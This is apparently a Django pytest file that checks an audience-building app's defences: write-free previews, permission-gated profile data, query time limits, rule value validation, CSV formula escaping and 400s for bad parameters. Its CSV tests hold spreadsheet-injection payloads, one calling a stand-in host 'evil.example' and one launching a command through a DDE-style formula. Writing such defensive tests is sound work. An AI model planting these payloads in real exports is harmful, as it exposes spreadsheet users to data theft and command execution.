"""Audiences against hostile input: previews write nothing, members' data is shown only to users
who may view profiles, rules run under a time limit, rule values fit their columns, CSV exports
escape formulas, and query parameters out of range are a 400."""

import csv
import datetime as dt
import io
import json

import pytest
from django.contrib.auth.models import Permission
from django.db import connection
from django.test import Client
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from audiences import dimensions as dims
from audiences.models import Audience, AudienceSnapshot, Population, PopulationMember
from audiences.rules.compiler import compile_rule
from audiences.rules.parser import RuleError, parse_rule
from audiences.services import (
    AudienceNotEvaluated,
    RuleTimeout,
    audience_evaluate,
    audience_preview,
    audience_save,
)
from config.admin_utils import csv_streaming_response
from config.csv_safety import escape_cell, unescape_cell
from profiles.models import Profile

pytestmark = pytest.mark.django_db

PREVIEW = "/api/v1/audiences/preview/"
ADMIN_PREVIEW = "/admin/audiences/audience/preview/"
PT = {"field": "country", "op": "eq", "value": "PT"}


def save(slug: str, rule=None, **fields) -> Audience:
    return audience_save(audience=Audience(name=slug.replace("-", " ").title(), slug=slug, rule=rule, **fields))


def written() -> tuple[int, int, int]:
    return AudienceSnapshot.objects.count(), Population.objects.count(), PopulationMember.objects.count()


def admin_preview(client, rule, dimension="profile"):
    return client.post(
        ADMIN_PREVIEW, json.dumps({"dimension": dimension, "rule": rule}), content_type="application/json"
    )


def clients(user) -> tuple[APIClient, Client]:
    """An API client (token) and an admin client (session) for one user."""
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=user).key}")
    admin = Client()
    admin.force_login(user)
    return api, admin


@pytest.fixture
def viewer(make_user):
    return clients(make_user("Viewer", is_staff=True))


@pytest.fixture
def manager(make_user):
    return clients(make_user("Campaign manager", is_staff=True))


@pytest.fixture
def marketer(make_user):
    """May view and change audiences, and use the admin, but not view profiles."""
    user = make_user(None, username="marketer", is_staff=True)
    user.user_permissions.add(
        *Permission.objects.filter(
            content_type__app_label="audiences", codename__in=["view_audience", "change_audience"]
        )
    )
    return user


@pytest.fixture
def marketer_api(marketer):
    return clients(marketer)[0]


@pytest.fixture
def marketer_admin(marketer):
    return clients(marketer)[1]


# -- 1. a preview writes nothing ------------------------------------------------------------------


def test_it_previews_an_audience_never_evaluated_by_compiling_its_rule_in_place(world, viewer):
    save("pt", PT)
    save("pt-bookers", {"all": [{"in_audience": "pt"}, {"has": "bookings"}]})
    rule = {"not": {"in_audience": "pt-bookers"}}
    before = written()
    response = viewer[0].post(PREVIEW, {"dimension": "profile", "rule": rule}, format="json")
    assert response.status_code == 200, response.json()
    assert response.json()["count"] == 2  # carla and dan: everyone but ana and bruno
    assert admin_preview(viewer[1], rule).json()["count"] == 2
    assert written() == before
    assert not AudienceSnapshot.objects.exists()
    # the count is the one Calculate gives
    snapshot = audience_evaluate(audience=save("not-pt-bookers", rule))
    assert snapshot.size == 2


def test_it_answers_409_naming_the_audience_to_calculate_when_references_go_too_deep(world, viewer):
    save("a", PT)
    save("b", {"in_audience": "a"})
    save("c", {"in_audience": "b"})
    before = written()
    response = viewer[0].post(PREVIEW, {"dimension": "profile", "rule": {"in_audience": "c"}}, format="json")
    assert response.status_code == 409
    assert response.json()["audience"] == "a"
    assert 'calculate "A" first' in response.json()["detail"]
    admin = admin_preview(viewer[1], {"in_audience": "c"})
    assert admin.status_code == 409
    assert 'calculate "A" first' in admin.json()["errors"][0]["message"]
    assert written() == before
    audience_evaluate(audience=Audience.objects.get(slug="a"))  # once "a" has members, "c" counts
    response = viewer[0].post(PREVIEW, {"dimension": "profile", "rule": {"in_audience": "c"}}, format="json")
    assert response.json()["count"] == 2


def test_a_preview_refuses_a_cycle_stored_behind_the_services_back(world):
    Audience.objects.create(name="X", slug="x", rule={"in_audience": "y"})
    Audience.objects.create(name="Y", slug="y", rule={"in_audience": "x"})
    with pytest.raises(RuleError) as caught:
        audience_preview(dimension="profile", rule={"in_audience": "x"})
    assert "a cycle" in str(caught.value)
    assert written() == (0, 0, 0)


def test_a_preview_of_a_list_never_uploaded_is_a_rule_error_like_evaluation(world):
    save("vip", kind=Audience.Kind.LIST)
    with pytest.raises(RuleError) as caught:
        audience_preview(dimension="profile", rule={"in_audience": "vip"})
    assert caught.value.problems == [("in_audience", 'audience "vip" has no members yet')]


def test_the_too_deep_refusal_is_not_swallowed_as_a_rule_error(world):
    save("a", PT)
    save("b", {"in_audience": "a"})
    save("c", {"any": [PT, {"in_audience": "b"}]})
    with pytest.raises(AudienceNotEvaluated):
        audience_preview(dimension="profile", rule={"all": [{"not": {"in_audience": "c"}}]})


# -- 1. members' data only for users who may view profiles ------------------------------------


def test_without_the_view_profile_permission_samples_and_exports_hold_ids_only(world, marketer_api):
    response = marketer_api.post(PREVIEW, {"dimension": "profile", "rule": PT}, format="json")
    assert response.status_code == 200
    assert sorted(row["id"] for row in response.json()["sample"]) == sorted([world["ana"].pk, world["bruno"].pk])
    assert all(set(row) == {"id"} for row in response.json()["sample"])
    audience = save("pt", PT)
    audience_evaluate(audience=audience)
    page = marketer_api.get(f"/api/v1/audiences/{audience.pk}/members/").json()
    assert page["results"][0] == {"object_id": world["ana"].pk, "profile_id": world["ana"].pk}
    export = marketer_api.get(f"/api/v1/audiences/{audience.pk}/members/", {"format": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
    assert rows == [["object_id", "profile_id"], *([str(p.pk)] * 2 for p in (world["ana"], world["bruno"]))]
    distribution = marketer_api.get(f"/api/v1/audiences/{audience.pk}/distribution/", {"field": "email"})
    assert distribution.status_code == 403


def test_with_the_view_profile_permission_samples_and_exports_show_external_ids(world, viewer):
    api = viewer[0]
    sample = api.post(PREVIEW, {"dimension": "profile", "rule": PT}, format="json").json()["sample"]
    assert {row["external_id"] for row in sample} == {"ana", "bruno"}
    assert {"email", "country"} <= set(sample[0])
    audience = save("pt", PT)
    audience_evaluate(audience=audience)
    export = api.get(f"/api/v1/audiences/{audience.pk}/members/", {"format": "csv"})
    assert b"".join(export.streaming_content).decode().splitlines()[0] == (
        "object_id,external_id,email,phone,first_name,last_name,country,city,loyalty_tier"
    )
    assert api.get(f"/api/v1/audiences/{audience.pk}/distribution/", {"field": "email"}).status_code == 200


def test_the_admin_shows_a_marketer_without_profile_access_ids_only(world, marketer_admin, viewer):
    body = admin_preview(marketer_admin, PT).json()
    assert all(set(row) == {"id"} for row in body["sample"]) and body["count"] == 2
    audience = save("pt", PT)
    audience_evaluate(audience=audience)
    page = marketer_admin.get(f"/admin/audiences/audience/{audience.pk}/change/", {"distribution": "email"})
    assert page.status_code == 200
    assert page.context["sample"]["columns"] == ["id"]
    assert all(row["url"] is None for row in page.context["sample"]["rows"])
    assert "distribution_form" not in page.context and "distribution" not in page.context
    assert "ana@example.com" not in page.content.decode()
    viewer_page = viewer[1].get(f"/admin/audiences/audience/{audience.pk}/change/", {"distribution": "email"})
    assert viewer_page.context["distribution"]["rows"][0]["value"] == "ana@example.com"


# -- 2. time limits ---------------------------------------------------------------------------------

# 100 patterns that match nothing, each tried on every profile: a full scan of thousands of LIKEs.
HEAVY = {"any": [{"field": "email", "op": "icontains", "value": f"zz{n}q"} for n in range(100)]}


@pytest.fixture
def crowd(db):
    Profile.objects.bulk_create(
        Profile(external_id=f"crowd-{n}", email=f"person-{n}@example.com", country="PT") for n in range(5000)
    )


def test_a_preview_past_its_time_limit_says_so(crowd, settings, viewer):
    settings.AUDIENCE_PREVIEW_TIMEOUT_MS = 1
    with pytest.raises(RuleTimeout, match=r"took longer than 0.001 seconds to count"):
        audience_preview(dimension="profile", rule=HEAVY)
    response = viewer[0].post(PREVIEW, {"dimension": "profile", "rule": HEAVY}, format="json")
    assert response.status_code == 422
    assert "AUDIENCE_PREVIEW_TIMEOUT_MS" in response.json()["detail"]
    assert "calculate it instead" in response.json()["detail"]
    admin = admin_preview(viewer[1], HEAVY)
    assert admin.status_code == 422 and "took longer than" in admin.json()["errors"][0]["message"]
    settings.AUDIENCE_PREVIEW_TIMEOUT_MS = 0  # no limit: the same rule counts (and nothing is left behind)
    assert audience_preview(dimension="profile", rule=HEAVY)["count"] == 0


@pytest.mark.django_db(transaction=True)
def test_an_evaluation_past_its_time_limit_fails_its_snapshot_with_the_message(crowd, settings, manager):
    audience = save("heavy", HEAVY)
    settings.AUDIENCE_EVALUATION_TIMEOUT_MS = 1
    with pytest.raises(RuleTimeout):
        audience_evaluate(audience=audience)
    failed = AudienceSnapshot.objects.get()
    assert failed.state == "failed"
    assert failed.error.startswith('Calculating "Heavy" took longer than 0.001 seconds and was stopped')
    assert (Population.objects.count(), PopulationMember.objects.count()) == (0, 0)
    response = manager[0].post(f"/api/v1/audiences/{audience.pk}/evaluate/")
    assert response.status_code == 422 and "AUDIENCE_EVALUATION_TIMEOUT_MS" in response.json()["detail"]
    page = manager[1].post(f"/admin/audiences/audience/{audience.pk}/calculate/", follow=True)
    assert [str(m) for m in page.context["messages"]][0].startswith('Not calculated: Calculating "Heavy" took longer')
    settings.AUDIENCE_EVALUATION_TIMEOUT_MS = 600_000
    assert audience_evaluate(audience=audience).size == 0  # the connection works as before


def test_an_evaluation_inside_a_callers_transaction_past_the_limit_raises_the_timeout(crowd, settings):
    """The test's own transaction is the caller's. On PostgreSQL the snapshot is failed with the
    message; on SQLite an interrupted write rolls back the caller's transaction, snapshot included,
    and the caller gets the timeout rather than a broken-transaction error."""
    audience = save("heavy", HEAVY)
    settings.AUDIENCE_EVALUATION_TIMEOUT_MS = 1
    with pytest.raises(RuleTimeout):
        audience_evaluate(audience=audience)
    if connection.vendor == "postgresql":
        assert AudienceSnapshot.objects.get().state == "failed"


@pytest.mark.django_db(transaction=True)
def test_a_dependency_past_the_limit_fails_the_audience_using_it_too(crowd, settings):
    save("heavy", HEAVY)
    user = save("uses-heavy", {"not": {"in_audience": "heavy"}})
    settings.AUDIENCE_EVALUATION_TIMEOUT_MS = 1
    with pytest.raises(RuleTimeout):
        audience_evaluate(audience=user)
    errors = dict(AudienceSnapshot.objects.values_list("audience__slug", "error"))
    assert errors["heavy"].startswith('Calculating "Heavy" took longer')
    assert errors["uses-heavy"] == errors["heavy"]


@pytest.mark.postgres
def test_on_postgresql_the_limit_is_put_back_after_the_block(world, settings):
    if connection.vendor != "postgresql":
        pytest.skip("PostgreSQL's statement_timeout")
    settings.AUDIENCE_PREVIEW_TIMEOUT_MS = 5000
    with connection.cursor() as cursor:
        cursor.execute("SHOW statement_timeout")
        before = cursor.fetchone()[0]
        audience_preview(dimension="profile", rule=PT)
        cursor.execute("SHOW statement_timeout")
        assert cursor.fetchone()[0] == before


# -- 3. rule values fit their columns -------------------------------------------------------------


def problems(dimension: str, rule) -> list[tuple[str, str]]:
    with pytest.raises(RuleError) as caught:
        parse_rule(dimension, rule)
    json.dumps(caught.value.as_dict(), ensure_ascii=False).encode()  # sendable as JSON, whatever the input
    return caught.value.problems


@pytest.mark.parametrize(
    ("dimension", "rule", "expected"),
    [
        ("profile", {"field": "city", "op": "eq", "value": "Lis\x00boa"},
         ("value", "contains a NUL character (\\x00) at position 4, which text may not hold")),
        ("profile", {"field": "city", "op": "in", "value": ["Porto", "x\ud800"]},
         ("value", "contains an unpaired UTF-16 surrogate (U+D800) at position 2: send valid Unicode")),
        ("profile", {"field": "country", "op": "eq", "value": "Portugal"},
         ("value", "is 8 characters long; the field holds at most 2")),
        ("booking", {"field": "status", "op": "eq", "value": "\udfff"},
         ("value", "contains an unpaired UTF-16 surrogate (U+DFFF) at position 1: send valid Unicode")),
        ("purchase", {"field": "quantity", "op": "gt", "value": 2**63},
         ("value", f"must be an integer from 0 to {2**63 - 1 if connection.vendor == 'sqlite' else 2**31 - 1}")),
        ("profile", {"has": "bookings", "count": {"op": "gte", "value": 10**30}},
         ("count.value", f"must be an integer from {-(2**63)} to {2**63 - 1}")),
        ("booking", {"field": "amount", "op": "gt", "value": "1e999999999"},
         ("value", "has 1,000,000,000 digits before the decimal point; the field holds at most 10")),
        ("booking", {"field": "amount", "op": "lt", "value": "9" * 500},
         ("value", "has 500 digits before the decimal point; the field holds at most 10")),
        ("booking", {"field": "amount", "op": "eq", "value": "12.345"},
         ("value", "has 3 decimal places; the field holds at most 2")),
        ("booking", {"field": "amount", "op": "eq", "value": "-1e-999999999"},
         ("value", "has 999,999,999 decimal places; the field holds at most 2")),
        ("profile", {"agg": "sum", "of": "purchases.amount", "op": "gte", "value": "1" * 29},
         ("value", "has 29 digits; compare with a number of at most 28")),
        ("booking", {"field": "booked_at", "op": "eq", "value": "2026-06-15T12:00:00+16:00"},
         ("value", "has a UTC offset of +16:00; offsets may be at most ±15:59")),
        ("booking", {"field": "booked_at", "op": "after", "value": "9999-12-31T23:00:00-01:00"},
         ("value", "falls outside the years 1 to 9999 in UTC")),
        ("booking", {"field": "booked_at", "op": "before", "value": "0001-01-01T00:30:00+01:00"},
         ("value", "falls outside the years 1 to 9999 in UTC")),
        ("profile", {"in_audience": "Not A Slug"},
         ("in_audience", "must be an audience slug (lower-case letters, digits and hyphens)")),
        ("profile", {"field": "city", "op": "eq", "value": "x", "\x00\ud800": 1},
         ("\\x00\\ud800", 'unexpected key "\\x00\\ud800"')),
        ("profile", {"field": "city", "op": "x" * 1000, "value": "x"},
         ("op", f'"{"x" * 60}…" is not an operator for string field "city"; use one of: '
                "eq, ne, in, not_in, contains, icontains, startswith, is_null")),
    ],
)  # fmt: skip
def test_it_refuses_a_value_its_column_cannot_take_naming_the_path(dimension, rule, expected):
    assert problems(dimension, rule) == [expected]


def test_it_caps_the_values_of_a_rule_so_that_sqlite_takes_its_parameters():
    many = [f"c{n}" for n in range(4000)]
    rule = {"all": [{"field": "city", "op": "in", "value": many} for _ in range(3)]}
    assert problems("profile", rule) == [("all[2].value", "a rule may hold at most 10,000 list values in all")]
    days = [str(dt.date(2026, 1, 1) + dt.timedelta(days=n)) for n in range(101)]
    assert problems("booking", {"field": "booked_at", "op": "in", "value": days})[0][1].startswith(
        "may hold at most 100 dates on a date-time field"
    )


@pytest.mark.parametrize(
    ("dimension", "rule", "now"),
    [
        ("profile", {"field": "birth_date", "op": "between", "value": ["0001-01-01", "9999-12-31"]}, None),
        ("booking", {"field": "booked_at", "op": "between", "value": ["0001-01-01", "9999-12-31"]}, None),
        ("booking", {"field": "booked_at", "op": "lte", "value": "9999-12-31"}, None),
        ("booking", {"field": "booked_at", "op": "ne", "value": "9999-12-31"}, None),
        ("booking", {"field": "booked_at", "op": "in", "value": ["0001-01-01", "9999-12-31"]}, None),
        ("booking", {"field": "booked_at", "op": "eq", "value": "9999-12-31T23:59:59.999999Z"}, None),
        ("booking", {"field": "booked_at", "op": "eq", "value": "2026-06-15T12:00:00-15:59"}, None),
        ("profile", {"agg": "max", "of": "bookings.booked_at", "op": "gt", "value": "9999-12-31"}, None),
        ("booking", {"field": "check_in", "op": "in_next_days", "value": 36500}, dt.datetime(9999, 12, 1)),
        ("booking", {"field": "booked_at", "op": "in_next_days", "value": 36500}, dt.datetime(9999, 12, 1)),
        ("booking", {"field": "check_in", "op": "in_last_days", "value": 36500}, dt.datetime(1, 2, 1)),
        ("booking", {"field": "booked_at", "op": "in_last_days", "value": 36500}, dt.datetime(1, 2, 1)),
        ("booking", {"field": "amount", "op": "between", "value": ["-9999999999.99", "9999999999.99"]}, None),
        ("purchase", {"field": "quantity", "op": "in", "value": [0, 2**31 - 1]}, None),
        ("profile", {"all": [{"field": "city", "op": "ne", "value": f"c{n}"} for n in range(450)]}, None),
        ("profile", {"any": [{"field": "created_at", "op": "in", "value": ["2026-01-01"] * 100}] * 4}, None),
    ],
)  # fmt: skip
def test_values_at_the_edges_evaluate(world, dimension, rule, now):
    with timezone.override("Asia/Tokyo"):  # 9:18:59 ahead of UTC in year 1: its first midnight is before year 1 in UTC
        dimension = dims.get(dimension)
        moment = timezone.make_aware(now, dt.UTC) if now else None
        compile_rule(dimension, parse_rule(dimension, rule), now=moment).count()


# -- 4. CSV exports escape formulas -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "escaped"),
    [("=1+1", "'=1+1"), ("+351912345678", "'+351912345678"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"),
     ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("'=1", "''=1"), ("ana", "ana"), ("'ana", "'ana"), ("", ""), ("a=1", "a=1")],
)  # fmt: skip
def test_it_escapes_cells_a_spreadsheet_would_run(text, escaped):
    assert escape_cell(text) == escaped
    assert unescape_cell(escaped) == text


@given(st.text())
def test_escaping_is_undone_exactly_and_never_leaves_a_formula(text):
    escaped = escape_cell(text)
    assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert unescape_cell(escaped) == text


def test_the_member_export_escapes_formulas(world, viewer):
    Profile.objects.filter(pk=world["ana"].pk).update(external_id='=HYPERLINK("http://evil.example/?"&A1)')
    Profile.objects.filter(pk=world["bruno"].pk).update(external_id="+351912345678")
    audience = save("pt", PT)
    audience_evaluate(audience=audience)
    export = viewer[0].get(f"/api/v1/audiences/{audience.pk}/members/", {"format": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
    assert [row[1] for row in rows[1:]] == ['\'=HYPERLINK("http://evil.example/?"&A1)', "'+351912345678"]
    assert [unescape_cell(row[1]) for row in rows[1:]] == ['=HYPERLINK("http://evil.example/?"&A1)', "+351912345678"]


def test_the_admin_csv_download_escapes_text_cells_and_keeps_numbers():
    response = csv_streaming_response(
        filename="x.csv", header=["name", "n"], rows=[["=cmd|'/c calc'!A0", -5], ["@x", None]]
    )
    text = b"".join(response.streaming_content).decode()
    assert list(csv.reader(io.StringIO(text))) == [["name", "n"], ["'=cmd|'/c calc'!A0", "-5"], ["'@x", ""]]


def test_a_profile_export_reads_back_through_the_importer(admin_as):
    from profiles.ingestion.files import import_stream

    Profile.objects.create(external_id="=1+1", phone="+351912345678", first_name="-Ana", last_name="@home")
    export = admin_as("Data steward").post(
        "/admin/profiles/profile/",
        {"action": "export_csv", "_selected_action": list(Profile.objects.values_list("pk", flat=True))},
    )
    text = b"".join(export.streaming_content).decode()
    assert "'+351912345678" in text and "'=1+1" in text
    Profile.objects.all().delete()
    report = import_stream(kind="profiles", stream=io.StringIO(text), fmt="csv")
    assert report.rejected == 0, report.errors
    imported = Profile.objects.get()
    assert (imported.external_id, imported.phone, imported.first_name, imported.last_name) == (
        "=1+1", "+351912345678", "-Ana", "@home",
    )  # fmt: skip


# -- 5. query parameters out of range ---------------------------------------------------------------


@pytest.mark.parametrize(
    "params",
    [{"after": "99999999999999999999999"}, {"after": "-1"}, {"after": "1e3"}, {"after": "١٢"},
     {"page_size": "99999999999999999999999"}, {"page_size": "ten"}],
)  # fmt: skip
def test_member_page_parameters_out_of_range_are_a_400(world, viewer, params):
    audience = save("pt", PT)
    audience_evaluate(audience=audience)
    response = viewer[0].get(f"/api/v1/audiences/{audience.pk}/members/", params)
    assert response.status_code == 400
    assert set(response.json()) == set(params)


def test_member_pages_at_the_edges_of_the_range(world, viewer):
    audience = save("pt", PT)
    audience_evaluate(audience=audience)
    api = viewer[0]
    assert api.get(f"/api/v1/audiences/{audience.pk}/members/", {"after": str(2**63 - 1)}).json()["results"] == []
    assert len(api.get(f"/api/v1/audiences/{audience.pk}/members/", {"page_size": "0"}).json()["results"]) == 1


@pytest.mark.parametrize(
    ("path", "params", "status"),
    [
        ("/api/v1/audiences/", {"kind": "x" * 10_000}, 400),
        ("/api/v1/audiences/", {"dimension": "9" * 10_000, "slug": "9" * 10_000}, 200),
        ("/api/v1/audiences/99999999999999999999999/", {}, 404),
        ("/api/v1/audiences/-1/", {}, 404),
        ("/api/v1/dimensions/" + "x" * 5000 + "/", {}, 404),
    ],
)
def test_filters_and_ids_out_of_range_are_not_a_500(world, viewer, path, params, status):
    assert viewer[0].get(path, params).status_code == status


@pytest.mark.parametrize("field", ["x." * 50_000, "x" * 100_000, "product." * 30_000 + "name"])
def test_a_huge_distribution_field_is_a_400_with_a_short_message(world, viewer, field):
    audience = save("pt", PT)
    audience_evaluate(audience=audience)
    response = viewer[0].get(f"/api/v1/audiences/{audience.pk}/distribution/", {"field": field})
    assert response.status_code == 400
    assert len(response.json()["field"][0]) < 200
